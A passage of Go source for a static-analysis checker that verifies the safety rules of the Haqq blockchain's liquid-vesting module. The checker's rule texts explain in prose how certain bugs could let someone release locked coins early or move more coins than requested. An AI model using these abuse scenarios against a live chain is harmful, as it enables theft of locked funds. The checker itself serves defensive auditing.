				sl := backSlice(funder)
				fromModule := sl.HasCall(func(g CallInfo) bool { return g.Name == "GetModuleAddress" })
				fromTarget := sl.HasField("ClawbackVestingAccount", "FunderAddress")
				r.Check(fromModule && !fromTarget, "R8", fnID(rd)+"#grant-funder-is-the-module", r.P.Pos(instrPos(ci.Instr)), "funder = liquidvesting module address only",
					"Redeem names the receiving account's own funder as the funder of the grant it merges: any holder of a liquid token can push a locked grant into any clawback account, e.g. one whose funder he controls and which holds an unlocked-but-unvested grant — min(unlocked, vested) over the merged aggregates releases the redeemed coins before their original lock-up ends")
			})
			r.Floor("R8", "ApplyVestingSchedule calls in Redeem", nA, 1)
		} else {
			r.Bad("R8", "anchor/Redeem", "", "not found")
		}
		r.Rule("R9", "PURE.results-of-coin-arithmetic-are-used: sdk.Coins, Coin, Int and Dec are value types whose Add/Sub/Mul/Quo/… return the result and leave the receiver untouched; anywhere in Haqq code (upgrade handlers included: v1.7.4 re-spreads every liquid denomination's and vesting account's lock-up schedule) the result of such a call is used — a discarded result is an update that never happened (a rounding remainder not put back: the schedule sums to one unit less than the supply)")
		{
			nA := 0
			for _, fn := range r.P.Funcs {
				if !isHaqqPath(fnPkgPath(fn)) || isTestSupport(r.P, fn) || fn.Synthetic != "" || isGeneratedFile(r.P.FileOf(fnPos(outermost(fn)))) {
					continue
				}
				per := map[string]int{}
				eachInstr(fn, func(in ssa.Instruction) {
					c, ok := in.(*ssa.Call)
					if !ok {
						return
					}
					ci := callInfo(c)
					if !(ci.Recv == "Coins" || ci.Recv == "Int" || ci.Recv == "LegacyDec" || ci.Recv == "Dec" || ci.Recv == "Coin" || ci.Recv == "DecCoins") || !strings.Contains(ci.PkgPath, "cosmos") {
						return
					}
					switch ci.Name {
					case "Add", "Sub", "Mul", "Quo", "SafeSub", "AddAmount", "SubAmount", "MulInt", "QuoInt", "Neg", "Min", "Max":
					default:
						return
					}
					nA++
					if c.Referrers() == nil || len(*c.Referrers()) == 0 {
						per[ci.Name]++
						r.Bad("R9", fmt.Sprintf("%s#discarded-%s-%d", fnID(fn), ci.Name, per[ci.Name]), r.P.Pos(instrPos(in)), "the result of "+ci.String()+" is discarded: the receiver is a value and is not modified, so the intended update is lost")
					}
				})
			}
			r.Floor("R9", "coin / integer arithmetic calls in Haqq code", nA, 100)
		}
		n := checkErrorsFailTheMessage(r, "R7", fns, "the liquid tokens are already burnt / the coins already moved at that point, so the redeemed amount leaves the module without its lock-up schedule (or a liquidation mints without escrow)")
		r.Floor("R7", "error-returning keeper calls in Liquidate/Redeem", n, 12)
	}()
	P := r.P
	const lk = "x/liquidvesting/keeper"
	modName, _ := P.constOf(haqqMod+"/x/liquidvesting/types", "ModuleName")
	r.Rule("R11", "see C09 R6 and R11 (imported): Redeem hands the redeemed schedule to the vesting keeper's addGrant; a merge stores start, end (the later of both schedules' ends), both period lists and the total — an account end time that is not recomputed makes ReadSchedule's shortcut release the redeemed coins when the recipient's *old* schedule ends; and the schedule readers advance their clock by every period")
	r.Import("R11/C09.", []string{"R6", "R11"}, runC09)
	r.Rule("R13", "see C08 R8 (imported): a redeem turns the receiver into a vesting account that carries the liquid token's remaining lockup, and the one way out of that account type — ConvertVestingAccount — is refused while anything is still locked up *by the schedule* (HasLockedCoins), not merely while the bank would refuse a transfer (LockedCoins, which subtracts what is delegated): staking the locked coins, converting and undelegating would otherwise release them before the original schedule does")
	r.Import("R13/C08.", []string{"R8"}, runC08)
	r.Rule("R1", "PATH+FLOW: tabled events (error-checked, amounts derived from msg.Amount, module account = liquidvesting) precede every success exit of Liquidate and Redeem; guards: module enabled, no unvested coins, locked balance ≥ amount; ApplyVestingSchedule(diffPeriods) follows whenever len(upcomingPeriods) > 0")
	r.Rule("R2", "OWN: MintCoins/BurnCoins(…, liquidvesting, …) only in Liquidate/Redeem; SetDenom/UpdateDenomPeriods/DeleteDenom/SetDenomCounter called only from the keeper's denom functions, Redeem, genesis and app/upgrades")

	isMod := func(v ssa.Value) bool { s, ok := constString(v); return ok && s == modName }
	depAmt := func(v ssa.Value, msgType string) bool { return quantityIsMsgAmount(v, msgType) }

	if fn, ok := P.FnOK("(" + lk + ".Keeper).Liquidate"); ok {
		where := P.Pos(fnPos(fn))
		var minted ssa.Value
		var split *ssa.Call
		eachCall(fn, func(ci CallInfo) {
			if ci.Name == "SubtractAmountFromPeriods" && split == nil {
				if c, ok := ci.Instr.(*ssa.Call); ok && backSlice(c.Call.Args[0]).HasCall(func(g CallInfo) bool { return g.Name == "ExtractUpcomingPeriods" }) {
					split = c
				}
			}
		})
		fromSplit := func(v ssa.Value, idx int) bool {
			return split != nil && backSlice(v).Any(func(x ssa.Value) bool {
				e, ok := x.(*ssa.Extract)
				return ok && e.Tuple == ssa.Value(split) && e.Index == idx
			})
		}
		evs := []evSpec{
			{"SetAccount(reduced account)", func(ci CallInfo) bool {
				return ci.Name == "SetAccount" && namedName(stripValue(argN(ci.Instr, 1)).Type()) == "ClawbackVestingAccount"
			}},
			{"SendCoinsFromAccountToModule(escrow msg.Amount)", func(ci CallInfo) bool {
				return ci.Name == "SendCoinsFromAccountToModule" && errHandled(ci.Instr) && isMod(argN(ci.Instr, 2)) && depAmt(argN(ci.Instr, 3), "MsgLiquidate") && backSlice(argN(ci.Instr, 1)).HasField("MsgLiquidate", "LiquidateFrom")
			}},
			{"CreateDenom(diffPeriods)", func(ci CallInfo) bool {
				return ci.Name == "CreateDenom" && errHandled(ci.Instr) && isSplitResultOrCopy(argN(ci.Instr, 3), split, 1)
			}},
			{"MintCoins(msg.Amount.Amount of the liquid denom)", func(ci CallInfo) bool {
				if ci.Name != "MintCoins" || !errHandled(ci.Instr) || !isMod(argN(ci.Instr, 1)) {
					return false
				}
				s := backSlice(argN(ci.Instr, 2))
				if quantityIsMsgAmount(argN(ci.Instr, 2), "MsgLiquidate") && s.HasCall(func(g CallInfo) bool { return g.Name == "CreateDenom" }) {
					minted = stripValue(argN(ci.Instr, 2))
					return true
				}
				return false
			}},
			{"SendCoinsFromModuleToAccount(minted coins → liquidateTo)", func(ci CallInfo) bool {
				return ci.Name == "SendCoinsFromModuleToAccount" && errHandled(ci.Instr) && isMod(argN(ci.Instr, 1)) && minted != nil && stripValue(argN(ci.Instr, 3)) == minted
			}},
		}
		for _, ev := range evs {
			w := Precedes(fn, isCallMatching(ev.pred), isSuccessExit, nil)
			r.Check(w == nil, "R1", fnID(fn)+"#event/"+ev.name, where, "on every success path", "Liquidate can succeed without "+ev.name, P.witness(w)...)
		}
		requireGuard(r, "R1", fnID(fn)+"#guard/module-enabled", fn, func(cond ssa.Value) (bool, bool) {
			_, ok := callNamed(cond, "IsLiquidVestingEnabled")
			return true, ok
		}, nil, isSuccessExit, "only while the module is enabled", "Liquidate can succeed while the module is disabled")
		requireGuard(r, "R1", fnID(fn)+"#guard/fully-vested", fn, func(cond ssa.Value) (bool, bool) {
			c, ok := callNamed(cond, "IsZero")
			return true, ok && backSlice(callArgs(c)[0]).HasCall(func(g CallInfo) bool { return g.Name == "GetVestingCoins" })
		}, nil, isSuccessExit, "only for accounts without unvested coins", "Liquidate can succeed for an account that still has unvested coins (unvested coins would become liquid)")
		requireGuard(r, "R1", fnID(fn)+"#guard/locked-balance-covers-amount", fn, func(cond ssa.Value) (bool, bool) {
			c, ok := callNamed(cond, "IsLT")
			if !ok {
				return false, false
			}
			a := callArgs(c)
			return false, backSlice(a[0]).HasCall(func(g CallInfo) bool { return g.Name == "GetLockedUpCoins" }) && backSlice(a[1]).HasField("MsgLiquidate", "Amount")
		}, nil, isSuccessExit, "only up to the locked balance", "Liquidate can succeed for more than the account's locked balance")
		// account schedule reduced by the same split
		okLP, okOV := false, false
		eachInstr(fn, func(in ssa.Instruction) {
			st, ok := in.(*ssa.Store)
			if !ok {
				return
			}
			sn, f, ok := fieldOfAddr(st.Addr)
			if !ok {
				return
			}
			if sn == "ClawbackVestingAccount" && f == "LockupPeriods" && fromSplit(st.Val, 0) {
				okLP = true
			}
			if sn == "BaseVestingAccount" && f == "OriginalVesting" && backSlice(st.Val).HasField("MsgLiquidate", "Amount") {
				okOV = true
			}
		})
		r.Check(okLP && okOV, "R1", fnID(fn)+"#account-reduced", where, "LockupPeriods := tail replaced by the decreased periods; OriginalVesting −= msg.Amount", fmt.Sprintf("the account's schedule is not reduced by the split (LockupPeriods from decreasedPeriods: %v, OriginalVesting − msg.Amount: %v): the same coins would stay locked on the account and circulate as liquid tokens", okLP, okOV))
	} else {
		r.Bad("R1", "anchor/Liquidate", "", "liquidvesting Keeper.Liquidate not found")
	}

	if fn, ok := P.FnOK("(" + lk + ".Keeper).Redeem"); ok {
		where := P.Pos(fnPos(fn))
		var split *ssa.Call
		eachCall(fn, func(ci CallInfo) {
			if ci.Name == "SubtractAmountFromPeriods" {
				if c, ok := ci.Instr.(*ssa.Call); ok {
					split = c
				}
			}
		})
		evs := []evSpec{
			{"SendCoinsFromAccountToModule(escrow msg.Amount)", func(ci CallInfo) bool {
				return ci.Name == "SendCoinsFromAccountToModule" && errHandled(ci.Instr) && isMod(argN(ci.Instr, 2)) && depAmt(argN(ci.Instr, 3), "MsgRedeem") && backSlice(argN(ci.Instr, 1)).HasField("MsgRedeem", "RedeemFrom")
			}},
			{"BurnCoins(msg.Amount)", func(ci CallInfo) bool {
				return ci.Name == "BurnCoins" && errHandled(ci.Instr) && isMod(argN(ci.Instr, 1)) && depAmt(argN(ci.Instr, 2), "MsgRedeem")
			}},
			{"UpdateDenomPeriods|DeleteDenom", func(ci CallInfo) bool {
				if ci.Name == "DeleteDenom" {
					return true
				}
				// the stored remainder is the split's first result itself (not a rewritten copy: period lengths are
				// relative, so merging or dropping elapsed entries moves every later release)
				direct := isSplitResultOrCopy(argN(ci.Instr, 2), split, 0)
				return ci.Name == "UpdateDenomPeriods" && errHandled(ci.Instr) && direct
			}},
			{"SendCoinsFromModuleToAccount(original denom, msg.Amount.Amount → redeemTo)", func(ci CallInfo) bool {
				if ci.Name != "SendCoinsFromModuleToAccount" || !errHandled(ci.Instr) || !isMod(argN(ci.Instr, 1)) {
					return false
				}
				s := backSlice(argN(ci.Instr, 3))
				return quantityIsMsgAmount(argN(ci.Instr, 3), "MsgRedeem") && s.HasCall(func(g CallInfo) bool { return g.Name == "GetOriginalDenom" }) && backSlice(argN(ci.Instr, 2)).HasField("MsgRedeem", "RedeemTo")
			}},
		}
		for _, ev := range evs {
			w := Precedes(fn, isCallMatching(ev.pred), isSuccessExit, nil)
			r.Check(w == nil, "R1", fnID(fn)+"#event/"+ev.name, where, "on every success path", "Redeem can succeed without "+ev.name, P.witness(w)...)
		}
		// burn before release
		isBurn := isCallMatching(evs[1].pred)
		isRelease := isCallMatching(evs[3].pred)
		w := Precedes(fn, isBurn, isRelease, nil)
		r.Check(w == nil, "R1", fnID(fn)+"#burn-before-release", where, "liquid tokens are burned before the original coins are released", "the original coins can be released before the liquid tokens are burned", P.witness(w)...)
		requireGuard(r, "R1", fnID(fn)+"#guard/module-enabled", fn, func(cond ssa.Value) (bool, bool) {
			_, ok := callNamed(cond, "IsLiquidVestingEnabled")
			return true, ok
		}, nil, isSuccessExit, "only while the module is enabled", "Redeem can succeed while the module is disabled")
		// schedule re-applied when periods are upcoming
		var upEdges []Edge
		for _, b := range fn.Blocks {
			ifi, ok := lastIf(b)
			if !ok {
				continue
			}
			bo, ok := ifi.Cond.(*ssa.BinOp)
			if !ok || bo.Op != token.GTR {
				continue
			}
			if n, okc := constInt(bo.Y); !okc || n != 0 {
				continue
			}
			c, okl := bo.X.(*ssa.Call)
			if !okl {
				continue
			}
			if bi, okb := c.Call.Value.(*ssa.Builtin); !okb || bi.Name() != "len" {
				continue
			}
			if backSlice(c.Call.Args[0]).HasCall(func(g CallInfo) bool { return g.Name == "ExtractUpcomingPeriods" }) {
				upEdges = append(upEdges, Edge{b, 0})
			}
		}
		isApply := isCallMatching(func(ci CallInfo) bool {
			if ci.Name != "ApplyVestingSchedule" || !errHandled(ci.Instr) {
				return false
			}
			all := ci.Instr.Common().Args
			// the lock-up schedule handed to the vesting keeper is the split's second result itself (not a rewritten
			// copy: period lengths are relative to the start, so folding or dropping elapsed entries moves every
			// later release earlier)
			hasDiff := false
			if sig := ci.Instr.Common().Signature(); sig != nil {
				off := 0
				if !ci.Instr.Common().IsInvoke() && sig.Recv() != nil {
					off = 1
				}
				for i := 0; i < sig.Params().Len(); i++ {
					if sig.Params().At(i).Name() == "lockupPeriods" && i+off < len(all) {
						if isSplitResultOrCopy(all[i+off], split, 1) {
							hasDiff = true
						}
					}
				}
			}
			return hasDiff && backSlice(all...).HasField("MsgRedeem", "RedeemTo")
		})
		okUp := len(upEdges) > 0
		for _, e := range upEdges {
			if w := (PathQuery{Fn: fn, StartBlock: e.From.Succs[e.Succ], Block: isApply, Target: isSuccessExit}).Search(); w != nil {
				okUp = false
			}
		}
		r.Check(okUp, "R1", fnID(fn)+"#schedule-reapplied", where, "ApplyVestingSchedule(diffPeriods) whenever periods are still upcoming", "Redeem can succeed with upcoming periods without re-applying the split-off schedule to the receiver: the redeemed coins would be unlocked early")
	} else {
		r.Bad("R1", "anchor/Redeem", "", "liquidvesting Keeper.Redeem not found")
	}

	// the split point of the current period uses the same boundary convention as the period count
	r.Rule("R4", "TABLE.boundary-convention (sibling agreement): CurrentPeriodShift compares the running period end with currentTime so that a period ending exactly at currentTime has ended, as x/vesting's ReadPastPeriodCount does (C09 R4) — the shift into the current period and the count of past periods that Liquidate/Redeem combine must cut the schedule at the same instant")
	if fn, ok := P.FnOK("x/liquidvesting/types.CurrentPeriodShift"); ok {
		checkBoundary(r, "R4", fn, "currentTime")
	} else {
		r.Bad("R4", "anchor/CurrentPeriodShift", "", "not found")
	}
	if fn, ok := P.FnOK("x/vesting/types.ReadPastPeriodCount"); ok {
		checkBoundary(r, "R4", fn, "readTime")
	} else {
		r.Bad("R4", "anchor/ReadPastPeriodCount", "", "not found")
	}
	// the shift is measured on the schedule it belongs to: the account's own start time together with the
	// account's complete lockup period list (period lengths are relative, so a list without the past periods
	// measures from the wrong origin), at the block time
	nShift := 0
	for _, fn := range P.Funcs {
		if isTestSupport(P, fn) || fn.Synthetic != "" {
			continue
		}
		eachCall(fn, func(ci CallInfo) {
			if ci.Name != "CurrentPeriodShift" || ci.Static == nil || !pathHasSuffix(ci.PkgPath, "x/liquidvesting/types") {
				return
			}
			nShift++
			a := ci.Instr.Common().Args
			okStart := backSlice(a[0]).HasField("ClawbackVestingAccount", "StartTime") || backSlice(a[0]).HasCall(func(g CallInfo) bool { return g.Name == "GetStartTime" })
			okNow := backSlice(a[1]).HasCall(func(g CallInfo) bool { return g.Name == "BlockTime" })
			okPeriods := isFieldLoad(a[2], "ClawbackVestingAccount", "LockupPeriods")
			r.Check(okStart && okNow && okPeriods, "R4", fnID(fn)+"#shift-arguments", P.Pos(instrPos(ci.Instr)), "CurrentPeriodShift(account start, block time, account.LockupPeriods)",
				fmt.Sprintf("CurrentPeriodShift is not called with the account's own start (%v), the block time (%v) and the account's complete LockupPeriods (%v): the elapsed part of the current period is measured on a different schedule and the liquid token unlocks at the wrong time", okStart, okNow, okPeriods))
		})
	}
	r.Floor("R4", "CurrentPeriodShift call sites", nShift, 1)

	// the redeemed schedule is merged relative to the liquid denom's own start
	r.Rule("R5", "FLOW.grant-start (same rule code as C09 R5): the start time handed to addGrant derives from the grant's own start and never from the target account's StartTime — otherwise Redeem into an account that started before the liquid denom releases the redeemed coins earlier than the original schedule")
	checkGrantStart(r, "R5")

	// the denom store records exactly the schedule it is handed
	r.Rule("R6", "FLOW.split-in-the-requested-denomination: every Period.Amount that SubtractAmountFromPeriods writes — into the decreased periods and into the diff periods alike — is computed with a coin sdk.NewCoin(subtrahend.Denom, …) of the requested denomination; no period amount is copied over wholesale or left empty on a side path, so what moves between the two schedules is denominated in the requested coin only and sums to the requested amount (a schedule may carry other denominations)")
	if sp, ok := P.FnOK("x/liquidvesting/types.SubtractAmountFromPeriods"); ok {
		nSt, bad := 0, ""
		for _, f := range withAnon(sp) {
			eachInstr(f, func(in ssa.Instruction) {
				st, ok := in.(*ssa.Store)
				if !ok {
					return
				}
				sn, fld, ok := fieldOfAddr(st.Addr)
				if !ok || sn != "Period" || fld != "Amount" {
					return
				}
				nSt++
				okCoin := backSlice(st.Val).HasCall(func(g CallInfo) bool {
					if g.Name != "NewCoin" {
						return false
					}
					a := callArgs(g.Instr)
					return len(a) >= 1 && backSlice(a[0]).HasParam("subtrahend")
				})
				if !okCoin {
					bad = P.Pos(instrPos(in))
				}
			})
		}
		r.Check(bad == "" && nSt >= 3, "R6", fnID(sp)+"#amounts-in-requested-denom", P.Pos(fnPos(sp)), fmt.Sprintf("%d period amounts, each computed with NewCoin(subtrahend.Denom, …)", nSt),
			"SubtractAmountFromPeriods writes a period amount at "+bad+" that is not computed with a coin of the requested denomination (a whole period amount copied or emptied): for a schedule that carries a second denomination more than the requested coin moves, and the account's own schedule loses coins nobody asked for")
	} else {
		r.Bad("R6", "anchor/SubtractAmountFromPeriods", "", "not found")
	}
	r.Rule("R10", "SHAPE.split-in-whole-units: the proportional split of a liquidated or redeemed amount over the periods is integer arithmetic — period amount × requested amount ÷ total, the multiplication first, with the remainder handed out from the tail — so that the parts never sum to more than the request. The schedule helpers of x/liquidvesting/types use no fixed-point type (no value or call of sdk.Dec / math.LegacyDec), and every per-period part derives from an Int.Quo whose dividend is an Int.Mul of the period's amount and the requested amount: a pre-computed 18-digit share (rounded up 'to keep thirds exact') overshoots as soon as a period holds a whole ISLM, the negative remainder is dropped, and more coins move than were asked for")
	{
		nF := 0
		for _, fn := range P.Funcs {
			if !pathHasSuffix(fnPkgPath(fn), "x/liquidvesting/types") || isTestSupport(P, fn) || fn.Synthetic != "" || isGeneratedFile(P.FileOf(fnPos(outermost(fn)))) {
				continue
			}
			if !strings.HasSuffix(P.FileOf(fnPos(outermost(fn))), "schedule.go") {
				continue
			}
			nF++
			bad := ""
			eachInstr(fn, func(in ssa.Instruction) {
				if v, ok := in.(ssa.Value); ok && bad == "" {
					if n := namedName(v.Type()); n == "LegacyDec" || n == "Dec" {
						bad = P.Pos(instrPos(in))
					}
				}
			})
			r.Check(bad == "", "R10", fnID(fn)+"#no-fixed-point", P.Pos(fnPos(fn)), "integer arithmetic only",
				"a schedule helper of liquid vesting computes with an 18-decimal fixed-point number at "+bad+": per-period parts computed from a rounded share do not add up to the requested amount (they overshoot for period amounts of 1e18 and more), so more coins are liquidated or redeemed than asked for and the recorded schedule no longer sums to the supply")
		}
		r.Floor("R10", "schedule helpers of x/liquidvesting/types", nF, 4)
		if sp, ok := P.FnOK("x/liquidvesting/types.SubtractAmountFromPeriods"); ok {
			// the per-period part: the value added to the running total inside the first loop
			okPart, nPart := true, 0
			eachCall(sp, func(ci CallInfo) {
				if ci.Name != "NewCoin" {
					return
				}
				a := callArgs(ci.Instr)
				if len(a) < 2 {
					return
				}
				amt := backSlice(a[1])
				// only the proportional part (it depends on the total), not the residue hand-out
				if !amt.HasCall(func(g CallInfo) bool { return g.Name == "TotalAmount" }) {
					return
				}
				nPart++
				isProp := amt.Any(func(v ssa.Value) bool {
					q, ok := v.(*ssa.Call)
					if !ok || callInfo(q).Name != "Quo" || callInfo(q).Recv != "Int" {
						return false
					}
					qa := callArgs(q)
					if len(qa) != 2 {
						return false
					}
					m, ok := stripValue(qa[0]).(*ssa.Call)
					if !ok || callInfo(m).Name != "Mul" || callInfo(m).Recv != "Int" {
						return false
					}
					ms := backSlice(callArgs(m)...)
					return ms.HasParam("subtrahend") && ms.HasCall(func(g CallInfo) bool { return g.Name == "AmountOf" }) && backSlice(qa[1]).HasCall(func(g CallInfo) bool { return g.Name == "TotalAmount" })
				})
				if !isProp {
					okPart = false
				}
			})
			r.Check(okPart && nPart >= 1, "R10", fnID(sp)+"#part-is-amount-times-request-over-total", P.Pos(fnPos(sp)), "every proportional part is (period amount × requested amount) ÷ total in integers",
				"a per-period part of SubtractAmountFromPeriods is not computed as Int.Mul(period amount, requested amount).Quo(total): dividing first, or multiplying by a rounded share, loses or gains units per period")
		}
	}
	r.Rule("R12", "PATH.record-deleted-only-when-its-schedule-is-empty + FLOW.modified-record-is-written-back: (a) Redeem deletes a liquid token's record (and switches its conversion off) only over the true edge of `<remaining periods>.TotalAmount().IsZero()`, the remaining periods being SubtractAmountFromPeriods' result for this very redemption — any other test ('the supply equals the redeemed amount', read after the burn) deletes the record while tokens still circulate, and their escrow can never be redeemed; (b) Haqq code outside the liquid-vesting keeper's own setters that stores into a field of a local copy of a Denom record (the v1.7.4 handler stretching a token's schedule sets LockupPeriods and EndTime) passes that copy to SetDenom on every path to its exit: writing the periods through a narrower setter leaves the record's EndTime stale, and ExtractUpcomingPeriods then reports 'nothing upcoming' so that a redemption releases the coins unlocked")
	if rd, ok := P.FnOK("(" + lk + ".Keeper).Redeem"); ok {
		isDel := isCallMatching(func(ci CallInfo) bool { return ci.Name == "DeleteDenom" })
		pass, _ := guardPassEdges(rd, func(cond ssa.Value) (bool, bool) {
			c, ok := cond.(*ssa.Call)
			if !ok || callInfo(c).Name != "IsZero" || len(c.Call.Args) == 0 {
				return false, false
			}
			sl := backSlice(c.Call.Args[0])
			okTot := sl.HasCall(func(g CallInfo) bool { return g.Name == "TotalAmount" }) && sl.Any(func(v ssa.Value) bool {
				ex, isE := v.(*ssa.Extract)
				if !isE || ex.Index != 0 {
					return false
				}
				cc, isC := ex.Tuple.(*ssa.Call)
				return isC && callInfo(cc).Name == "SubtractAmountFromPeriods"
			})
			return true, okTot
		})
		w := PathQuery{Fn: rd, Target: isDel, DelEdge: edgeSet(pass)}.Search()
		nDel := len(findCalls(rd, func(ci CallInfo) bool { return ci.Name == "DeleteDenom" }))
		r.Check(w == nil && len(pass) > 0 && nDel >= 1, "R12", fnID(rd)+"#record-deleted-only-when-empty", P.Pos(fnPos(rd)), "DeleteDenom only over decreasedPeriods.TotalAmount().IsZero()",
			"Redeem can delete the liquid token's record on a path that did not establish that the remaining schedule (this redemption's SubtractAmountFromPeriods result) is empty: the record disappears and conversion is switched off while tokens are still outstanding", P.witness(w)...)
	} else {
		r.Bad("R12", "anchor/Redeem", "", "not found")
	}
	{
		nWB := 0
		for _, fn := range P.Funcs {
			if isTestSupport(P, fn) || fn.Synthetic != "" || !isHaqqPath(fnPkgPath(fn)) || pathHasSuffix(fnPkgPath(fn), "x/liquidvesting/types") || isGeneratedFile(P.FileOf(fnPos(outermost(fn)))) {
				continue
			}
			// the keeper's own setters assemble the record they store
			if pathHasSuffix(fnPkgPath(fn), lk) && (fn.Name() == "UpdateDenomPeriods" || fn.Name() == "CreateDenom" || fn.Name() == "SetDenom") {
				continue
			}
			// only functions that persist something about a record are of interest: a scratch copy that is never
			// stored anywhere changes nothing
			persists := false
			for _, g := range withAnon(outermost(fn)) {
				eachCall(g, func(ci CallInfo) {
					switch ci.Name {
					case "SetDenom", "UpdateDenomPeriods", "CreateDenom", "DeleteDenom":
						persists = true
					}
				})
			}
			if !persists {
				continue
			}
			seen := map[ssa.Value]bool{}
			eachInstr(fn, func(in ssa.Instruction) {
				st, ok := in.(*ssa.Store)
				if !ok {
					return
				}
				fa, ok := st.Addr.(*ssa.FieldAddr)
				if !ok || namedName(deref(fa.X.Type())) != "Denom" || !strings.Contains(namedPkgPath(deref(fa.X.Type())), "x/liquidvesting/types") {
					return
				}
				root := addrRoot(fa.X)
				if seen[root] {
					return
				}
				seen[root] = true
				nWB++
				isWB := func(x ssa.Instruction) bool {
					c, ok := x.(ssa.CallInstruction)
					if !ok || callInfo(c).Name != "SetDenom" {
						return false
					}
					for _, a := range c.Common().Args {
						if u, ok := a.(*ssa.UnOp); ok && addrRoot(u.X) == root {
							return true
						}
					}
					return false
				}
				w := PathQuery{Fn: fn, Start: in, Block: isWB, Target: func(x ssa.Instruction) bool { _, ok := x.(*ssa.Return); return ok }}.Search()
				r.Check(w == nil, "R12", fmt.Sprintf("%s#modified-denom-record-written-back", fnID(outermost(fn))), P.Pos(instrPos(in)), "every path from the field store to the exit passes SetDenom(copy)",
					"a field of a local copy of a liquid-token record is changed but the copy is not written back with SetDenom on every path: part of the change (the record's EndTime) is lost", P.witness(w)...)
			})
		}
		r.Count("R12 local Denom copies modified outside the keeper's setters", nWB)
	}
	r.Rule("R3", "FLOW.schedule-stored-unmodified: UpdateDenomPeriods stores its periods parameter itself into Denom.LockupPeriods and then SetDenom; CreateDenom stores its periods parameter itself and an EndTime derived from start + periods.TotalLength()")
	if fn, ok := P.FnOK("(" + lk + ".Keeper).UpdateDenomPeriods"); ok {
		okSt, n := true, 0
		eachInstr(fn, func(in ssa.Instruction) {
			st, ok := in.(*ssa.Store)
			if !ok {
				return
			}
			if sn, f, ok := fieldOfAddr(st.Addr); ok && sn == "Denom" && f == "LockupPeriods" {
				n++
				if !isParam(st.Val, "newPeriods") {
					okSt = false
				}
			}
		})
		r.Check(okSt && n == 1, "R3", fnID(fn)+"#stores-parameter", P.Pos(fnPos(fn)), "Denom.LockupPeriods := newPeriods", "UpdateDenomPeriods stores something other than the periods it was given (period lengths are relative: dropping or rewriting entries shifts every later release)")
		isSetD := isCallMatching(func(ci CallInfo) bool { return ci.Name == "SetDenom" })
		w := Precedes(fn, isSetD, isSuccessExit, nil)
		r.Check(w == nil, "R3", fnID(fn)+"#persists", P.Pos(fnPos(fn)), "SetDenom on every success path", "UpdateDenomPeriods can succeed without storing the denom", P.witness(w)...)
	} else {
		r.Bad("R3", "anchor/UpdateDenomPeriods", "", "not found")
	}
	if fn, ok := P.FnOK("(" + lk + ".Keeper).CreateDenom"); ok {
		okP, okE := false, false
		eachInstr(fn, func(in ssa.Instruction) {
			st, ok := in.(*ssa.Store)
			if !ok {
				return
			}
			if sn, f, ok := fieldOfAddr(st.Addr); ok && sn == "Denom" {
				if f == "LockupPeriods" && isParam(st.Val, "periods") {
					okP = true
				}
				if f == "EndTime" {
					s := backSlice(st.Val)
					okE = s.HasParam("startTime") && s.HasCall(func(g CallInfo) bool { return g.Name == "TotalLength" })
				}
			}
		})
		r.Check(okP && okE, "R3", fnID(fn)+"#stores-parameter", P.Pos(fnPos(fn)), "LockupPeriods := periods; EndTime := start + TotalLength", "CreateDenom does not store the periods it was given unmodified, or its EndTime is not start + periods.TotalLength()")
	}

	// ---------- R2 ----------
	checkMintBurnOwnership(r, "R2", modName, map[string]string{
		"(" + lk + ".Keeper).Liquidate": "mint liquid tokens for escrowed coins",
		"(" + lk + ".Keeper).Redeem":    "burn redeemed liquid tokens",
	}, 2)
	allowedDenom := map[string]map[string]bool{
		"SetDenom":           {"(" + lk + ".Keeper).CreateDenom": true, "(" + lk + ".Keeper).UpdateDenomPeriods": true, "x/liquidvesting.InitGenesis": true},
		"UpdateDenomPeriods": {"(" + lk + ".Keeper).Redeem": true},
		"DeleteDenom":        {"(" + lk + ".Keeper).Redeem": true},
		"SetDenomCounter":    {"(" + lk + ".Keeper).CreateDenom": true, "x/liquidvesting.InitGenesis": true},
		"CreateDenom":        {"(" + lk + ".Keeper).Liquidate": true},
	}
	n := 0
	for _, fn := range P.Funcs {
		if isTestSupport(P, fn) || fn.Synthetic != "" {
			continue
		}
		owner := fnID(outermost(fn))
		eachCall(fn, func(ci CallInfo) {
			al, ok := allowedDenom[ci.Name]
			if !ok || ci.Static == nil || !pathHasSuffix(ci.PkgPath, lk) {
				return
			}
			n++
			r.Check(al[owner] || strings.HasPrefix(owner, "app/upgrades/"), "R2", owner+"#"+ci.Name, P.Pos(instrPos(ci.Instr)), "confirmed caller", ci.Name+" (liquid denom store) is called from "+owner+", which is not one of its confirmed callers")
		})
	}
	r.Floor("R2", "denom store writer call sites", n, 7)
}

// quantityIsMsgAmount: the QUANTITY of the coins value v is the message's Amount — not merely some value
// that mentions msg.Amount (e.g. a balance looked up by msg.Amount.Denom). Every sdk.NewCoin in v's slice
// takes its amount argument from loads of <msgType>.Amount only (no call in that argument's slice); if the
// coins are built without NewCoin they are the message's Coin itself wrapped by NewCoins.
func quantityIsMsgAmount(v ssa.Value, msgType string) bool {
	s := backSlice(v)
	if !s.HasField(msgType, "Amount") {
		return false
	}
	pure := func(x ssa.Value) bool {
		xs := backSlice(x)
		if !xs.HasField(msgType, "Amount") {
			return false
		}
		return !xs.Any(func(y ssa.Value) bool { c, isCall := y.(*ssa.Call); return isCall && quantityChangingCall(callInfo(c)) })
	}
	nNewCoin, ok := 0, true
	s.Any(func(x ssa.Value) bool {
		c, isCall := x.(*ssa.Call)
		if !isCall {
			return false
		}
		ci := callInfo(c)
		switch ci.Name {
		case "NewCoin":
			nNewCoin++
			if a := c.Call.Args; len(a) != 2 || !pure(a[1]) {
				ok = false
			}
		}
		return false
	})
	if !ok {
		return false
	}
	if nNewCoin == 0 {
		// no constructor: only the message's own Coin may flow in — no call other than the NewCoins wrapper
		return !s.Any(func(x ssa.Value) bool {
			c, isCall := x.(*ssa.Call)
			return isCall && callInfo(c).Name != "NewCoins"
		})
	}
	return true
}

// quantityChangingCall: a call through which an amount stops being "the message's amount unchanged":
// arithmetic on Int/Dec/big.Int/Coins, or a read of some other quantity (balances, supplies, EVM results).
// Conversions and constructors (BigInt, NewIntFromBigInt, NewCoin, NewCoins, String, …) are not listed.
func quantityChangingCall(ci CallInfo) bool {
	switch ci.Name {
	case "Add", "Sub", "Mul", "Quo", "Mod", "Neg", "Abs", "AddRaw", "SubRaw", "MulRaw", "QuoRaw", "ModRaw", "SafeSub", "SafeAdd",
		"MulInt", "QuoInt", "MulInt64", "QuoInt64", "MulTruncate", "QuoTruncate", "Exp", "Lsh", "Rsh", "Div", "Rem", "Sqrt",
		"Min", "Max", "MinInt", "MaxInt", "BigMax", "BigMin",
